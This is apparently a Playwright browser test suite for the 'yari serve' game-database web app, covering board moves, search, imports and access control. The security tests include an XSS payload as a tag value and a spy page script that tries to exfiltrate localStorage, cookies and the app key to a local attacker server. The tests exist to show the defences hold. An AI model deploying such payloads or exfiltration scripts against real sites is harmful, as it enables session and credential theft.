// The page of `yari serve` in headless Chromium, as a reader uses it.
import assert from 'node:assert/strict';
import {spawn} from 'node:child_process';
import {existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import {createServer} from 'node:http';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {run} from './harness.mjs';
import {at, click, desk, phone, placeOf, reload, sfen, shogiStart, shows, tab} from './page.mjs';

async function movesByMouse(open) {
  const page = await open();
  await click(page, '7g');
  await page.locator('#board .target').waitFor();
  assert.equal(await page.locator('#board .target').count(), 1);
  await click(page, '7f');
  await shows(page, 'rnnkbbr/7/ppppppp/7/7/P6/1PPPPPP/7/RBBKNNR w');
  await page.locator('#turn', {hasText: 'White to move'}).waitFor();
  const from = await placeOf(page, '3c'), to = await placeOf(page, '3d');
  await page.mouse.move(from.x, from.y);
  await page.mouse.down();
  await page.mouse.move(to.x, to.y, {steps: 3});
  await page.mouse.up();
  await shows(page, 'rnnkbbr/7/pppp1pp/4p2/7/P6/1PPPPPP/7/RBBKNNR b');
  await page.getByRole('button', {name: 'Take back'}).click();
  await shows(page, 'rnnkbbr/7/ppppppp');
  await page.keyboard.press('ArrowLeft');
  await shows(page, 'rnnkbbr/7/ppppppp/7/7/7');
  await page.keyboard.press('ArrowRight');
  await shows(page, 'rnnkbbr/7/ppppppp/7/7/P6');
}

async function movesByTouch(open) {
  const page = await open({viewport: phone, hasTouch: true, hash: at('shogi', shogiStart)});
  for (const square of ['7g', '7f']) {
    const {x, y} = await placeOf(page, square, {files: 9});
    await page.touchscreen.tap(x, y);
  }
  await shows(page, 'lnsgkgsnl/1r5b1/ppppppppp/9/9/2P6');
}

async function movesByKeyboard(open) {
  const page = await open();
  await page.locator('#board').focus();
  // The cursor begins in the middle of the rank above the hand below.
  await page.keyboard.press('ArrowUp');
  await page.locator('#said', {hasText: /^4i Black's general$/}).waitFor();
  for (const key of ['ArrowUp', 'ArrowUp', 'Enter', 'ArrowUp', 'Enter']) await page.keyboard.press(key);
  await shows(page, 'rnnkbbr/7/ppppppp/7/7/3P3');
  await page.locator('#line button', {hasText: /^P-4f$/}).waitFor();
}

// The cursor stands on a piece in hand, which goes back to the board.
async function aCursorWithoutItsPiece(open) {
  const page = await open({hash: `${at('yari', '3k3/7/7/3p3/3P3/7/7/7/3K3 b - 1')}&moves=4e4d&ply=1`});
  await shows(page, '3k3/7/7/3P3');
  await page.locator('#board').focus();
  await page.keyboard.press('ArrowUp');
  await page.keyboard.press('ArrowDown');
  await page.locator('#said', {hasText: "pawn in Black's hand"}).waitFor();
  await page.keyboard.press('Backspace');
  await shows(page, '3k3/7/7/3p3');
  await page.keyboard.press('ArrowUp');
  await page.locator('#said', {hasText: /^4i Black's general$/}).waitFor();
}

async function promotionIsAsked(open) {
  const page = await open({hash: at('shogi', '4k4/9/9/4S4/9/9/9/9/4K4 b - 1')});
  await click(page, '5d', {files: 9});
  await click(page, '5c', {files: 9});
  const dialog = page.getByRole('dialog', {name: 'Promotion'});
  await dialog.waitFor();
  assert.deepEqual(await dialog.getByRole('button').evaluateAll((buttons) => buttons.map(({ariaLabel}) => ariaLabel)), ['Promote S-5c+', 'Do not promote S-5c=']);
  // Both stand over the square.
  const asked = await dialog.boundingBox(), square = await placeOf(page, '5c', {files: 9});
  assert.ok(square.x > asked.x && square.x < asked.x + asked.width && square.y > asked.y && square.y < asked.y + asked.height);
  await page.keyboard.press('Escape');
  assert.equal(await sfen(page), '4k4/9/9/4S4/9/9/9/9/4K4 b - 1');
  await click(page, '5d', {files: 9});
  await click(page, '5c', {files: 9});
  await dialog.getByRole('button', {name: 'Promote S-5c+', exact: true}).click();
  await shows(page, '4k4/9/4+S4/9');
}

async function dropsAndMate(open) {
  const page = await open({hash: at('yari', '3k3/7/3+B3/7/7/7/7/7/3K3 b RP 1')});
  await click(page, 'R*', {held: 'RP'});
  await page.locator('#board .target').nth(10).waitFor();
  await click(page, '2d');
  await page.waitForFunction(() => document.getElementById('turn').textContent === 'White to move');
  await page.getByRole('button', {name: 'Take back'}).click();
  await shows(page, '3k3/7/3+B3/7/7/7/7/7/3K3 b');
  await click(page, 'R*', {held: 'RP'});
  await click(page, '1a');
  await page.waitForFunction(() => document.getElementById('turn').textContent === 'Black wins: mate');
}

async function explorerFollowsTheBoard(open) {
  const page = await open({hash: at('shogi', shogiStart)});
  const rows = () => page.locator('#explorer-moves tr').allInnerTexts();
  await page.locator('#explorer-moves button', {hasText: 'P-7f'}).click();
  await shows(page, 'lnsgkgsnl/1r5b1/ppppppppp/9/9/2P6');
  await page.locator('#explorer-moves button', {hasText: 'P-3d'}).waitFor();
  assert.match((await rows()).at(-1), /all\s+4/);
  assert.equal(await page.locator('#explorer-moves .bar').count(), 2);
  await page.locator('#filters summary').click();
  await page.locator('#filter-black').fill('habu');
  await page.waitForFunction(() => /all\s+[123]\b/.test(document.querySelector('#explorer-moves').innerText));
  await page.locator('#filter-black').fill('nobody');
  await page.getByText('No game reached this position.').waitFor();
  await page.getByRole('button', {name: 'Clear'}).click();
  await page.waitForFunction(() => /all\s+4/.test(document.querySelector('#explorer-moves').innerText));
}

async function notationIsRemembered(open) {
  const page = await open({hash: at('shogi', shogiStart)});
  await page.getByLabel('Moves').first().selectOption('japanese');
  await page.locator('#explorer-moves button', {hasText: '▲７六歩'}).click();
  await page.locator('#line button', {hasText: '▲７六歩'}).waitFor();
  await page.waitForFunction(() => location.hash.includes('moves=7g7f'));
  await reload(page);
  await page.locator('#explorer-moves button', {hasText: '△３四歩'}).waitFor();
  await page.getByRole('button', {name: 'Flip'}).click();
  assert.equal(await page.getByRole('button', {name: 'Flip'}).getAttribute('aria-pressed'), 'true');
  // A tab that was opened before does not take back what this one remembers.
  const other = await page.context().newPage();
  await other.goto(page.url());
  await other.locator('#line button', {hasText: '▲７六歩'}).waitFor();
  await page.getByLabel('Moves').first().selectOption('move');
  await tab(other, 'Games');
  await reload(page);
  await page.locator('#line button', {hasText: /^P-7f$/}).waitFor();
  await other.close();
}

async function gamesAreListedAndOpened(open) {
  const page = await open();
  await tab(page, 'Games');
  // Those of the game that is on the board.
  await page.getByText('9 games').waitFor();
  await page.locator('#games-switch').getByText('Shogi', {exact: true}).click();
  await page.getByText('5 games').waitFor();
  await page.locator('#games-sort').selectOption('id');
  await page.locator('#games-list .row:first-child .id', {hasText: /^2$/}).waitFor();
  await page.locator('#games-list').focus();
  for (const key of ['ArrowDown', 'Enter']) await page.keyboard.press(key);
  await page.getByRole('heading', {name: 'Habu Yoshiharu – Fujii Takeshi'}).waitFor();
  await page.locator('#moves [data-node="3"]').click();
  await shows(page, 'lnsgkgsnl/1r5b1/pppppp1pp/6p2/9/2P4P1');
  await page.keyboard.press('ArrowRight');
  await page.locator('#moves [aria-current]', {hasText: 'P-4d'}).waitFor();
  await click(page, '3i', {files: 9});
  await click(page, '3h', {files: 9});
  await page.getByText('This line is not in the game.').waitFor();
  await page.getByRole('button', {name: 'Back to the game'}).click();
  await page.locator('#moves [data-node="4"][aria-current]').waitFor();
  await page.waitForFunction(() => location.hash.startsWith('#game=2&ply=4'));
  await reload(page);
  await page.locator('#moves [data-node="4"][aria-current]').waitFor();
}

async function gamesWithThePosition(open) {
  const page = await open({hash: at('shogi', shogiStart)});
  await tab(page, 'Games');
  await page.locator('#games-here').check();
  await page.getByText('5 games').waitFor();
  await click(page, '7g', {files: 9});
  await click(page, '7f', {files: 9});
  await page.getByText('4 games').waitFor();
  assert.equal(await page.locator('#games-list .row').count(), 4);
}

async function aSearchShowsTheFaultAndTheHits(open) {
  const page = await open();
  await tab(page, 'Search');
  const box = page.getByLabel('Search the moves of all games');
  await box.fill('capture R and and drop');
  await page.getByText("expected a condition, found 'and'").waitFor();
  assert.equal(await page.locator('#query-mirror .fault').textContent(), 'and');
  const word = await page.locator('#query-mirror .fault').boundingBox();
  assert.ok(word.width > 20, 'something is underlined');
  await box.fill('capture R');
  await page.keyboard.press('Enter');
  await page.getByText('8 hits').waitFor();
  assert.equal(await page.locator('#query-mirror .fault').count(), 0);
  await page.locator('#hits .row').nth(2).click();
  await page.locator('#moves [data-node="76"][aria-current]').waitFor();
}

async function tagsAreEditedAndUndone(open) {
  const page = await open({hash: '#game=2&ply=0'});
  await tab(page, 'Game');
  const evil = '<img src=x onerror=alert(1)> final';
  await page.locator('#edit summary').click();
  const event = page.locator('#edit-fields input[name=Event]');
  const before = await event.inputValue();
  await event.fill(evil);
  await page.getByRole('button', {name: 'Save tags'}).click();
  await page.waitForFunction((text) => document.getElementById('game-facts').textContent.includes(text), evil);
  assert.equal(await page.locator('#game img').count(), 0);
  await page.getByRole('button', {name: 'Undo the last change'}).click();
  await page.waitForFunction((text) => document.getElementById('game-facts').textContent.includes(text), before);
}

async function aReadOnlyServerOffersNoEdits(open) {
  const page = await open({hash: '#game=2&ply=0'});
  await tab(page, 'Game');
  await page.getByRole('heading', {name: 'Habu Yoshiharu – Fujii Takeshi'}).waitFor();
  assert.equal(await page.locator('#edit').isVisible(), false);
}

async function aServerThatHasGoneIsReported(open) {
  const page = await open({hash: at('shogi', shogiStart), expectsErrors: true});
  const move = async () => {
    await click(page, '7g', {files: 9});
    await click(page, '7f', {files: 9});
  };
  await page.route('**/api/position?*', (route) => route.abort());
  await move();
  await page.getByText('The server does not answer').waitFor();
  assert.ok((await sfen(page)).startsWith('lnsgkgsnl/1r5b1/ppppppppp/9/9/9'), 'the board stays');
  await page.unroute('**/api/position?*');
  await move();
  await shows(page, 'lnsgkgsnl/1r5b1/ppppppppp/9/9/2P6');
  assert.equal(await page.locator('#failure').isVisible(), false);
}

async function positionsArePastedAndCopied(open) {
  const page = await open();
  await page.getByRole('button', {name: 'Position…'}).click();
  await page.getByLabel('SFEN, moves, a record or a diagram').fill('1. P-7f P-9z');
  await page.getByRole('button', {name: 'Show it'}).click();
  await page.locator('#setup-findings li').first().waitFor();
  await page.getByLabel('SFEN, moves, a record or a diagram').fill('手合割：平手\n手数----指手---\n   1 ７六歩(77)\n   2 ３四歩(33)\n');
  await page.getByRole('button', {name: 'Show it'}).click();
  await shows(page, 'lnsgkgsnl/1r5b1/pppppp1pp/6p2/9/2P6');
  // An answer for the format before comes late, and changes nothing.
  const late = '**/api/record?*';
  await page.route(late, async (route) => {
    if (!route.request().url().includes('format=usi')) await new Promise((done) => setTimeout(done, 500));
    await route.continue();
  });
  const other = page.waitForResponse((answer) => answer.url().includes('/api/record?') && !answer.url().includes('format=usi'));
  await page.getByRole('button', {name: 'Position…'}).click();
  await page.locator('#setup-format').selectOption('usi');
  await page.waitForFunction(() => document.getElementById('setup-out').value.includes('moves 7g7f 3c3d'));
  await other;
  await page.unroute(late);
  await page.waitForTimeout(100);
  assert.ok((await page.locator('#setup-out').inputValue()).includes('moves 7g7f 3c3d'), 'the late answer is left');
  await page.locator('#setup-handicap').selectOption('Rook');
  await page.getByRole('button', {name: 'Begin'}).click();
  await shows(page, 'lnsgkgsnl/7b1/ppppppppp/9/9/9/PPPPPPPPP/1B5R1/LNSGKGSNL w');
}

async function theEngineThinksAndFollows(open) {
  const page = await open();
  await page.getByRole('button', {name: 'Start engine'}).click();
  await page.locator('#engine-result li').nth(2).waitFor();
  await page.locator('#board .arrow').nth(2).waitFor();
  await page.locator('#engine-result button', {hasText: /^[+−]\d+\.\d\d$/}).first().waitFor();
  await page.locator('#engine-result button').first().click();
  await page.waitForFunction(() => document.getElementById('turn').textContent === 'White to move');
  await page.locator('#engine-result li').nth(2).waitFor();
  await page.getByRole('button', {name: 'Stop engine'}).click();
  await page.getByRole('button', {name: 'Start engine'}).waitFor();
}

async function strangersAreKeptOut(open, {origin, address}) {
  const page = await open();
  // What was printed is gone from the address and from the history.
  assert.ok(!page.url().includes('code'), page.url());
  const {entries} = await (await page.context().newCDPSession(page)).send('Page.getNavigationHistory');
  for (const {url} of entries) assert.ok(!url.includes('code='), url);
  // It lets another browser of the user in.
  const code = new URL(address).hash.slice('#code='.length);
  const again = await fetch(`${origin}/api/session`, {method: 'POST', body: JSON.stringify({code})});
  assert.equal(again.status, 200);
  for (const path of ['/api/about', '/api/games', '/nowhere']) assert.equal((await fetch(origin + path)).status, 401);
  assert.ok(!(await (await fetch(origin)).text()).includes('.db'), 'the page says nothing of the database');
}

async function whoIsNotLetInReadsWhatToDo(open, {origin, address}) {
  const page = await open({expectsErrors: true});
  const says = (pattern) => page.locator('#failure', {hasText: pattern}).waitFor();
  const shut = async () => assert.equal(await page.locator('main').isVisible(), false);
  // This browser was never here.
  const forget = () => page.evaluate(() => new Promise((done) => {
    localStorage.removeItem('yari-key');
    indexedDB.deleteDatabase('yari').onsuccess = done;
  }));
  await forget();
  await page.goto('about:blank');
  await page.goto(origin);
  await says(/needs the address that “yari serve” printed/);
  await shut();
  await page.goto('about:blank');
  await page.goto(`${origin}/#code=${'0'.repeat(64)}`);
  await says(/of another run of “yari serve”/);
  await page.goto('about:blank');
  await page.goto(address);
  await page.locator('[role=tabpanel]:visible').waitFor();
  // The key of a server that ended.
  await forget();
  await page.evaluate(() => localStorage.setItem('yari-key', 'old'));
  await page.goto('about:blank');
  await page.goto(origin);
  await says(/has no access any more/);
  await shut();
  // Nor is JSON what a person reads at another path.
  await page.goto(`${origin}/api/about`);
  assert.match(await page.locator('body').innerText(), /open the address that 'yari serve' printed/);
}

async function aCodeThatTheServerCouldNotTakeStaysGood(open, {origin}) {
  const page = await open({expectsErrors: true});
  const key = await page.evaluate(() => localStorage.getItem('yari-key'));
  const answerTrades = async (answer) => {
    await page.unroute('**/api/session');
    await page.route('**/api/session', (route) => route.fulfill(answer));
  };
  await page.evaluate(() => localStorage.removeItem('yari-key'));
  await page.goto('about:blank');
  // In a new tab without a key; then in the one that shows the page, where nothing but the hash changes.
  for (let i = 0; i < 2; ++i) {
    await answerTrades({status: 503});
    await page.goto(`${origin}/#code=0123`);
    await page.locator('#failure', {hasText: 'the server answered 503: open the address again'}).waitFor();
    assert.equal(await page.locator('main').isVisible(), i === 1, 'a page that was let in goes on');
    assert.ok(page.url().endsWith('#code=0123'), page.url());
    await answerTrades({contentType: 'application/json', body: JSON.stringify({key})});
    await reload(page);
    assert.ok(!page.url().includes('code'), page.url());
  }
  // A page that has a key needs no other.
  await answerTrades({status: 503});
  await page.goto('about:blank');
  await page.goto(`${origin}/#code=0123`);
  await page.locator('[role=tabpanel]:visible').waitFor();
}

// What `yari serve --open` gives the browser of the desktop.
async function theFileOfOpenLeadsIn(open, {database}) {
  const page = await open({expectsErrors: true, goesElsewhere: true});
  const folder = mkdtempSync(join(tmpdir(), 'yari-open-'));
  writeFileSync(join(folder, 'xdg-open'), '#!/bin/sh\nprintf %s "$1" > "$SPY"\n', {mode: 0o755});
  const server = spawn(process.env.YARI_PROGRAM, ['serve', '--db', database, '--port', '0', '--open'], {
    stdio: 'ignore', env: {...process.env, PATH: `${folder}:${process.env.PATH}`, SPY: join(folder, 'word'), XDG_RUNTIME_DIR: folder}});
  try {
    const word = () => (existsSync(join(folder, 'word')) ? readFileSync(join(folder, 'word'), 'utf8') : '');
    for (let i = 0; i < 600 && !word(); ++i) await new Promise((done) => setTimeout(done, 100));
    assert.ok(existsSync(word()), word());
    await page.goto(`file://${word()}`);
    await page.locator('[role=tabpanel]:visible').waitFor();
    assert.ok(!page.url().includes('code'), page.url());
    for (let i = 0; i < 600 && existsSync(word()); ++i) await new Promise((done) => setTimeout(done, 100));
    assert.ok(!existsSync(word()), 'the file is gone');
    // No step back leads to an address that lets somebody in.
    const entries = await (await page.context().newCDPSession(page)).send('Page.getNavigationHistory');
    for (const {url} of entries.entries) assert.ok(!url.includes('code='), url);
  } finally {
    server.kill('SIGINT');
    await new Promise((done) => server.once('exit', done));
    rmSync(folder, {recursive: true});
  }
}

// Another user of the machine listens on another port, and gets the browser to visit it and to ask us.
async function anotherServerOfThisMachineGetsNothing(open, {origin}) {
  const page = await open({expectsErrors: true, goesElsewhere: true});
  const key = await page.evaluate(() => localStorage.getItem('yari-key'));
  assert.equal(key.length, 64);
  const heard = [];
  const spy = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}\n${JSON.stringify(request.rawHeaders)}`);
    response.setHeader('Content-Type', 'text/html');
    response.end(`<script>
      const tell = (text) => fetch('/heard', {method: 'POST', body: String(text)});
      (async () => {
        await tell('stored ' + JSON.stringify({...localStorage}) + document.cookie);
        for (const options of [{credentials: 'include'}, {mode: 'no-cors', credentials: 'include'}])
          await fetch('${origin}/api/about', options).then((answer) => answer.text()).then(tell, tell);
        const frame = document.createElement('iframe');
        frame.src = '${origin}/';
        document.body.append(frame);
        frame.onload = () => { try { tell('framed ' + frame.contentWindow.localStorage.getItem('yari-key')); } catch (error) { tell(error); } };
        setTimeout(() => tell('end'), 1000);
      })();
    </script>`);
    request.on('data', (part) => heard.push(String(part)));
  });
  await new Promise((done) => spy.listen(0, '127.0.0.1', done));
  // The page leads there by a link, so that a referrer would be sent.
  await page.evaluate((url) => {
    const link = document.createElement('a');
    link.href = url;
    document.body.append(link);
    link.click();
  }, `http://127.0.0.1:${spy.address().port}/`);
  for (let i = 0; i < 600 && !heard.includes('end'); ++i) await new Promise((done) => setTimeout(done, 100));
  spy.close();
  spy.closeAllConnections();
  const all = heard.join('\n');
  assert.ok(heard.includes('end'), all);
  assert.ok(all.includes('stored {}'), all);
  for (const secret of [key, '"Cookie"', '"Authorization"', `"${origin}/`, 'variants', 'code=']) assert.ok(!all.includes(secret), `${secret} in ${all}`);
  // And the page still works.
  await page.goto(origin);
  await page.locator('[role=tabpanel]:visible').waitFor();
}

async function theBoardStaysInSightOnAPhone(open) {
  const page = await open({viewport: phone, hash: '#game=2&ply=40'});
  await tab(page, 'Game');
  await page.evaluate(() => scrollTo(0, document.documentElement.scrollHeight));
  await page.waitForFunction(() => scrollY > 300);
  const box = await page.locator('#board').boundingBox();
  assert.ok(box.y >= -1 && box.y < 100, `the board is at ${box.y}`);
  // Nor does it cover the field that is written in.
  await tab(page, 'Search');
  const query = page.getByLabel('Search the moves of all games');
  await page.evaluate(() => scrollTo(0, document.documentElement.scrollHeight));
  await query.pressSequentially('ca');
  const steps = await page.locator('#steps').boundingBox();
  const written = await query.boundingBox();
  assert.ok(written.y >= steps.y + steps.height - 1, `the field is at ${written.y}, the board ends at ${steps.y + steps.height}`);
}

async function theBoardStaysInSightOnADesk(open) {
  const page = await open({viewport: desk, hash: '#game=2&ply=40'});
  await tab(page, 'Game');
  for (const summary of await page.locator('#game > details > summary').all()) await summary.click();
  await page.evaluate(() => { document.getElementById('panel-game').scrollTop = 1e6; scrollTo(0, 1e6); });
  await page.waitForFunction(() => document.getElementById('panel-game').scrollTop > 50);
  for (const id of ['board', 'moves', 'engine-go', 'steps']) {
    const box = await page.locator(`#${id}`).boundingBox();
    assert.ok(box.y >= -1 && box.y + box.height <= desk.height, `${id} is at ${box.y}`);
  }
}

async function aPlayersOpenings(open) {
  const page = await open({hash: '#game=2&ply=9'});
  await tab(page, 'Game');
  await page.getByRole('button', {name: 'Fujii Takeshi'}).click();
  await page.waitForFunction(() => /all\s+3\b/.test(document.querySelector('#explorer-moves').innerText));
  assert.equal(await page.locator('#filter-white').inputValue(), 'Fujii Takeshi');
  await page.getByLabel('Opponent').fill('hab');
  await page.waitForFunction(() => document.querySelector('#player-names option')?.value === 'Habu Yoshiharu');
}

async function aPatternIsPainted(open) {
  const page = await open();
  await tab(page, 'Search');
  await page.getByText('Paint a pattern').click();
  for (const [brush, square] of [['_', '4b'], ['k', '5a'], ['A', '4c']]) {
    await page.locator(`#paint-brushes label:has([value="${brush}"])`).click();
    await page.locator(`[data-square="${square}"]`).click();
  }
  await page.getByLabel('anywhere on the board').check();
  await page.locator('#paint-hands [data-count=P]').fill('1');
  await page.locator('#paint-side').selectOption('black');
  await page.getByRole('button', {name: 'Search this'}).click();
  assert.equal(await page.locator('#query').inputValue(), 'pattern "k?/?_/?A" anywhere and hand P >= 1 and black to move');
  await page.waitForFunction(() => /^\d+ hits/.test(document.getElementById('search-state').textContent));
  await page.getByRole('button', {name: 'Clear', exact: true}).last().click();
  await page.getByRole('button', {name: 'From the board'}).click();
  assert.match(await page.locator('[data-square="4a"]').textContent(), /4a White's general$/);
  await page.getByLabel('anywhere on the board').uncheck();
  await page.getByRole('button', {name: 'Search this'}).click();
  await page.waitForFunction(() => /^\d+ hits/.test(document.getElementById('search-state').textContent));
}

async function filesAreImported(open) {
  const page = await open();
  await tab(page, 'Games');
  await page.locator('#import summary').click();
  const text = '[Black "<b>Ito</b>"]\n\n1. P-7f P-3d 2. P-9z *\n';
  await page.locator('#import-files').setInputFiles([{name: '<i>x</i>.psn', mimeType: 'text/plain', buffer: Buffer.from(text)}]);
  await page.getByText('10 games').waitFor();
  const result = await page.locator('#import-results').innerText();
  assert.match(result, /^<i>x<\/i>\.psn: 1 imported, 0 duplicates, 0 rejected/);
  assert.match(result, /3:\d+: error/);
  await page.locator('#games-sort').selectOption('id');
  await page.locator('#games-list .row:first-child .id', {hasText: /^1$/}).waitFor();
  await page.locator('#games-list').focus();
  await page.keyboard.press('End');
  await page.keyboard.press('Enter');
  await page.getByRole('heading', {name: '<b>Ito</b> – ?'}).waitFor();
  assert.equal(await page.locator('main b, main i').count(), 0, 'names are text');
}

async function foldersAreDropped(open) {
  for (const viewport of [desk, phone]) {
    const page = await open({viewport});
    const folder = mkdtempSync(join(tmpdir(), 'yari-dropped-'));
    mkdirSync(join(folder, 'Shogi', 'empty'), {recursive: true});
    const names = ['A', 'B', 'C'].map((name) => `${name}${viewport.width}`);
    writeFileSync(join(folder, 'yari.psn'), `[Black "${names[0]}"]\n\n1. P-7f P-3d *\n`);
    writeFileSync(join(folder, 'Shogi', 'old.psn'), `[Variant "Shogi"]\n[Black "${names[1]}"]\n\n1. P-7f P-3d *\n`);
    writeFileSync(join(folder, 'Shogi', 'wrong.kif'), '手合割：平手\n手数----指手---\n   1 ７九歩(77)\n');
    const single = join(folder, 'alone.psn');
    writeFileSync(single, `[Black "${names[2]}"]\n\n1. P-2f P-3d *\n`);
    const browser = await page.context().newCDPSession(page);
    const drop = async (...files) => {
      for (const type of ['dragEnter', 'dragOver', 'drop'])
        await browser.send('Input.dispatchDragEvent', {type, x: 200, y: 200, data: {items: [], files, dragOperationsMask: 1}});
      await page.locator('#import-state', {hasText: 'done'}).waitFor();
      await page.evaluate(() => { document.getElementById('import-state').textContent = ''; });
    };
    await drop(join(folder, 'Shogi'), join(folder, 'yari.psn'));
    await tab(page, 'Games');
    const results = await page.locator('#import-results > li').allInnerTexts();
    assert.equal(results.length, 3);
    assert.match(results.find((text) => text.startsWith('old.psn')), /1 imported/);
    assert.match(results.find((text) => text.startsWith('yari.psn')), /1 imported/);
    assert.match(results.find((text) => text.startsWith('wrong.kif')), /3:\d+: error.*\n.*７九歩/);
    await drop(single);
    await page.locator('#import-results', {hasText: 'alone.psn: 1 imported'}).waitFor();
    await page.locator('#filters summary').click();
    await page.getByLabel('Player', {exact: true}).fill(`${viewport.width}`);
    await page.getByText('2 games', {exact: true}).waitFor();
    await page.locator('#games-switch').getByText('Shogi', {exact: true}).click();
    await page.locator('#games-count', {hasText: /^1 game$/}).waitFor();
    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), viewport.width);
    rmSync(folder, {recursive: true});
  }
}

async function gamesInJapanese(open) {
  const page = await open({hash: '#game=2&ply=3'});
  await tab(page, 'Game');
  await page.getByLabel('Moves').first().selectOption('japanese');
  await page.locator('#moves [data-node="1"]', {hasText: '▲７六歩'}).waitFor();
  await page.getByLabel('Moves').first().selectOption('move');
  await page.locator('#moves [data-node="1"]', {hasText: 'P-7f'}).waitFor();
}

run([
  ['moves are made by mouse, taken back and stepped through', movesByMouse],
  ['moves are made by touch', movesByTouch],
  ['moves are made with the keyboard alone', movesByKeyboard],
  ['a cursor whose piece has gone moves on', aCursorWithoutItsPiece],
  ['a promotion is a choice', promotionIsAsked],
  ['pieces in hand are dropped, and mate ends the game', dropsAndMate],
  ['the explorer follows the board and the filter', explorerFollowsTheBoard],
  ['notation and looks are remembered', notationIsRemembered],
  ['games are listed, opened and stepped through', gamesAreListedAndOpened],
  ['the list shows the games with the position', gamesWithThePosition],
  ['a search shows the place of a fault, and its hits', aSearchShowsTheFaultAndTheHits],
  ['tags are edited and the change taken back', tagsAreEditedAndUndone],
  ['a read-only server offers no edits', aReadOnlyServerOffersNoEdits, 'read-only'],
  ['positions are pasted, begun and copied', positionsArePastedAndCopied],
  ['the engine thinks about the position on the board', theEngineThinksAndFollows],
  ["a player's openings are a click away, names are offered", aPlayersOpenings],
  ['a pattern is painted and searched', aPatternIsPainted],
  ['files are imported, and what is wrong in them is shown', filesAreImported],
  ['folders and files that are dropped are imported', foldersAreDropped],
  ['the moves of a game are in the notation chosen', gamesInJapanese],
  ['strangers are kept out', strangersAreKeptOut],
  ['who is not let in reads what to do', whoIsNotLetInReadsWhatToDo],
  ['a code that the server could not take stays good', aCodeThatTheServerCouldNotTakeStaysGood],
  ['the file of --open leads the browser in', theFileOfOpenLeadsIn],
  ['another server of this machine gets nothing', anotherServerOfThisMachineGetsNothing],
  ['a server that has gone is reported', aServerThatHasGoneIsReported],
  ['the board stays in sight on a phone, and covers no field', theBoardStaysInSightOnAPhone],
  ['the board stays in sight on a desk', theBoardStaysInSightOnADesk],
]);
